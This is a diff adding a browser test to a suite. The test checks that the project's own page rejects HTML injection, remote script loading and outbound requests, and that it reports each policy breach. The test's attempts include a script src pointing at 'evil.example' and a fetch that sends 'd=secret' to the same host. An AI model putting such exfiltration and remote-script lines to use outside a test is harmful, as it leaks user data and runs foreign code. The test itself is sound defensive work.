@@ -100,3 +100,22 @@ describe('a page of another program', () => {
     opened.errors.length = 0;
   });
 });
+
+describe('our own page', () => {
+  it('case 298: loads nothing from elsewhere, and makes no elements of text, should it ever try', async () => {
+    const { house, opened } = scene;
+    const { page } = opened;
+    await page.goto(house.link());
+    const tried = (work: string): Promise<string> =>
+      page.evaluate<string>(`(async () => { ${work}; return 'done'; })().catch(({ name }) => name)`);
+    expect(await tried(`document.body.innerHTML = '<b>x</b>'`)).toBe('TypeError');
+    expect(await tried(`document.write('<b>x</b>')`)).toBe('TypeError');
+    expect(await tried(`document.createElement('script').src = 'https://evil.example/x.js'`)).toBe('TypeError');
+    expect(await tried(`await fetch('https://evil.example/?d=secret')`)).toBe('TypeError');
+    expect(opened.outbound()).toEqual([]);
+    // Both are told a moment later: the breach of the policy, and a word on the console about the last one.
+    const told = (kind: string): number => opened.errors.filter((error) => error.startsWith(kind)).length;
+    await vi.waitFor(() => expect([told('policy: '), told('console: ')]).toEqual([4, 5]));
+    opened.errors.length = 0;
+  });
+});
